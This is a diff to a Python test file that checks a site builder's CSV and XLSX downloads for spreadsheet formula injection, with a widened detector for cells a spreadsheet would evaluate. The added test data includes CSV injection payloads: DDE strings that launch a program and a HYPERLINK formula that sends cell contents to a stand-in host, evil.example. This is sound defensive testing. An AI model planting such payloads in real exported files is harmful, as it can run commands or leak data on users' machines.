@@ -294,14 +294,18 @@ def test_staging_folders_of_a_killed_build_are_removed(tmp_path: Path) -> None:
 # Spreadsheet downloads ---------------------------------------------------------------
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"คลิก")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0",
+            # behind quotes or spaces a spreadsheet drops on import, or in full width
+            '"=HYPERLINK(""https://evil.example/"")', "'=1+1", "\u00a0=1+1", "\u3000+1+1", "＝1+1", "\n@SUM(1)"]
 
 
 def evaluated(cell: str) -> bool:
-    """Whether Excel, LibreOffice or Google Sheets would evaluate this CSV cell."""
-    if re.fullmatch(r"[-+]?[0-9][0-9,]*(\.[0-9]+)?", cell):
+    """Whether Excel, LibreOffice or Google Sheets could evaluate this CSV cell: it starts
+    with a formula character, also behind the spaces and quotes an import may trim."""
+    if re.fullmatch(r"[-+]?[0-9][0-9,]*(\.[0-9]+)?", cell.strip()):
         return False  # a number
-    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+    starts = set("=+-@\t\r\n\0＝＋－＠")
+    return cell[:1] in starts or (cell.lstrip(" \u00a0\u3000\"")[:1] in starts and not cell.startswith("'"))
 
 
 def read_back(site: Path) -> dict[str, list[list[str]]]:
@@ -351,7 +355,7 @@ def test_downloads_hold_no_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> 
     rows = [[c.value for c in r] for r in sheet.iter_rows()]
     write_xlsx(data / "contracts.xlsx", rows,
                {"B2": ('HYPERLINK("https://evil.example/","x")', escape('=HYPERLINK("https://evil.example/","x")')),
-                "J2": (None, escape("=cmd|' /C calc'!A0"))})
+                "J2": (None, escape("=cmd|' /C calc'!A0")), "J3": (None, escape('  "@SUM(1+1)'))})
     result = cli("build", "--content", content, "--site-dir", tmp_path / "site", cwd=tmp_path)
     assert result.returncode == 0, result.stderr
 
@@ -365,6 +369,7 @@ def test_downloads_hold_no_cell_a_spreadsheet_would_evaluate(tmp_path: Path) -> 
         assert "'" + formula.strip() in cells, formula
     assert "'=HYPERLINK(\"https://evil.example/\",\"x\")" in cells  # the cached value, neutralized
     assert "'=cmd|' /C calc'!A0" in cells
+    assert any(c.startswith("'") and c.endswith('"@SUM(1+1)') for c in cells)  # behind spaces and a quote
     contracts = downloads["2568/data/contracts.csv"]
     assert any(re.fullmatch(r"[0-9,]+\.[0-9]{2}", c) or re.fullmatch(r"[๐-๙,]+\.[๐-๙]{2}", c)
                for c in contracts[1]), "numbers stay numbers"
